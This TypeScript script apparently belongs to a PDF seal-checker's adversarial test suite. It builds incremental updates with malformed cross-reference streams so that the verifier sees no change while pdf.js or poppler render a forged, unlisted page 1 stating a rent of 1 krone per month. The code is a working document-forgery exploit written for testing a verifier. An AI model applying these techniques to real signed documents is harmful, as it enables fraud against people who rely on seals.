// a21 (F1's class on the cross-reference stream): an update whose xref stream lists only itself, its dictionary
// with `/F /ASCIIHexDecode` and no /Filter. sealcheck (and PDFium, qpdf, PDFBox) read its rows raw: the update
// changes nothing. pdf.js and poppler take /F for the filter, hex-decode the binary rows to too few bytes, fail the
// table and rebuild it by scanning, where the last `N 0 obj` wins: page 1 re-defined, unlisted, in the update.
// parms (P1's class here): `/Filter [/FlateDecode] /DecodeParms << /Predictor 12 /Columns 7 >>`, the row
// behind PNG type 4 (Paeth, written as differences: the row for sealcheck); readers that take no parameters read type 4.
// adler: `/Filter /FlateDecode`, the zlib data without its Adler-32 (sealcheck keeps PDFBox's tolerance of that).
// gen: no filter; /W [1 4 4] and a second row, a free entry whose generation is 0xFFFFFFFF (poppler 22.12:
// "Gen inside xref table too large (bigger than INT_MAX)", the table fails and is rebuilt).
// big: no filter; a second subsection listing object 2^22 (free): PDFium's kMaxObjectNumber.
// zero: no filter; the xref stream is object 0 (`0 0 obj`), its one row a free entry.
// huge: as zero, the xref stream numbered 2^22 (PDFium's kMaxObjectNumber).
//   npx tsx scripts/attack-s16/f-xref.ts <honest|hex|parms|adler|gen|big|zero|huge>   REAL=0 for samples/valid (default: the real archive)
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { deflateSync } from "node:zlib";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "./lib.js";

const mode = process.argv[2] ?? "hex";
if (!["honest", "hex", "parms", "adler", "gen", "big", "zero", "huge"].includes(mode)) throw new Error("usage: <honest|hex|parms|adler|gen|big|zero|huge>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const alloc = new NumberAllocator(doc);
const [B, C] = [alloc.take(), alloc.take()];

const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R ` + `/Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
// Unlisted: no cross-reference section names these offsets; only a reader that scans finds them.
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
push(latin(`${page.ref!.num} 0 obj\n${forgedPage}\nendobj\n`));
const offC = at;
const self = [1, (offC >>> 24) & 0xff, (offC >>> 16) & 0xff, (offC >>> 8) & 0xff, offC & 0xff];
const rows =
  mode === "gen"
    ? [...self, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff]
    : mode === "big"
      ? [...self, 0, 0, 0, 0, 0, 0, 0, 0, 0]
      : mode === "zero" || mode === "huge"
        ? [0, 0, 0, 0, 0, 0, 0]
        : [...self, 0, 0];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const f =
  mode === "hex"
    ? " /F /ASCIIHexDecode"
    : mode === "adler"
      ? " /Filter /FlateDecode"
      : mode === "parms"
        ? " /Filter [/FlateDecode] /DecodeParms << /Predictor 12 /Columns 7 >>"
        : "";
// Paeth on a first row adds the byte to its left: the row written as differences reads back as `rows`.
const paeth = rows.map((b, i) => (i === 0 ? b : (b - rows[i - 1]!) & 0xff));
const data =
  mode === "parms" ? [...deflateSync(Uint8Array.from([4, ...paeth]))] : mode === "adler" ? [...deflateSync(Uint8Array.from(rows))].slice(0, -4) : rows;
push([
  ...latin(
    `${mode === "zero" ? 0 : mode === "huge" ? 2 ** 22 : C} 0 obj\n<< /Type /XRef ${mode === "big" ? `/Size ${2 ** 22 + 1} /W [1 4 2] /Index [${C} 1 ${2 ** 22} 1]` : mode === "gen" ? `/Size ${C + 2} /W [1 4 4] /Index [${C} 2]` : `/Size ${C + 1} /W [1 4 2] /Index [${C} 1]`} /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")}${f} /Length ${data.length} >>\nstream\n`,
  ),
  ...data,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const file = save(work(`s16-f-xref-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`f-xref ${mode}`, file);
